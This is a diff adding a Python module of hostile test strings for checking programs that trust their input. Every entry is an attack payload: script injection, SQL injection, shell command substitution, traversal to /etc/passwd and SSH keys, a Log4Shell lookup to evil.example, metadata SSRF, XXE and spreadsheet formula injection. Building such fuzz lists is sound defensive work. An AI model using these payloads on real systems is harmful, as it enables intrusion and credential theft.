@@ -1,0 +1,76 @@
+"""Texts that break programs which trust what they are sent."""
+
+from __future__ import annotations
+
+from typing import Final
+
+ATTACKS: Final = (
+    # Markup and scripts
+    "<script>alert(1)</script>",
+    '"><img src=x onerror=alert(1)>',
+    "'-alert(1)-'",
+    "<svg/onload=alert(1)>",
+    "</title><script>alert(1)</script>",
+    "{{7*7}}${7*7}#{7*7}<%= 7*7 %>",
+    "{% include '/etc/passwd' %}",
+    "javascript:alert(1)",
+    "data:text/html;base64,PHNjcmlwdD4=",
+    "<!--#exec cmd='id'-->",
+    "]]><x>",
+    "&#60;script&#62;alert(1)",
+    # Databases and search engines
+    "' OR 1=1 --",
+    "'; DROP TABLE document; --",
+    '" UNION SELECT password FROM account --',
+    "1) OR (SELECT 1 FROM (SELECT SLEEP(5))x",
+    "%' ESCAPE '!",
+    'body:* AND NOT title:("',
+    "+(a b)^1e999 ~99 [* TO *] {a TO b}",
+    '{"$gt": ""}',
+    "*)(uid=*))(|(uid=*",
+    # Commands and paths
+    "$(id) `id` ; id | id && id",
+    "../../../../etc/passwd",
+    "..\\..\\..\\windows\\win.ini",
+    "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
+    "....//....//etc/passwd",
+    "/etc/passwd\0.pdf",
+    "file:///etc/passwd",
+    "\\\\evil.example\\share",
+    "CON",
+    "~root/.ssh/id_rsa",
+    # Headers, logs and addresses
+    "a\r\nSet-Cookie: evil=1",
+    "a\nX-Evil: 1\n\n<html>",
+    "%0d%0aSet-Cookie:%20evil=1",
+    "\u560a\u560dSet-Cookie: evil=1",
+    "${jndi:ldap://evil.example/a}",
+    "//evil.example/x",
+    "https:evil.example",
+    "http://169.254.169.254/latest/meta-data/",
+    # Numbers, formats and structures
+    "%s%n%x%d%p",
+    "9" * 400,
+    "-0",
+    "NaN",
+    "1e309",
+    "__proto__",
+    "[" * 500,
+    "(" * 500 + ")" * 500,
+    '"' * 333,
+    "a OR " * 150 + "a",
+    "(a+)+$" * 30,
+    "=cmd|' /C calc'!A0",
+    '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
+    # Characters
+    "\0",
+    "\u202etxt.exe\u2066",
+    "\ufeff\u200b\u00ad\u2060",
+    "\ufdfa" * 300,
+    "Z\u0351\u036b\u0343\u036a" * 100,
+    "\ud7ff\ue000\uffff\U0010ffff",
+    "\u3164\u115f\u2800",
+    "ﬃ Ⅷ ① ｅｖｉｌ",
+    "İ ı ß ŉ",
+    "👩‍👩‍👧‍👦" * 50,
+)
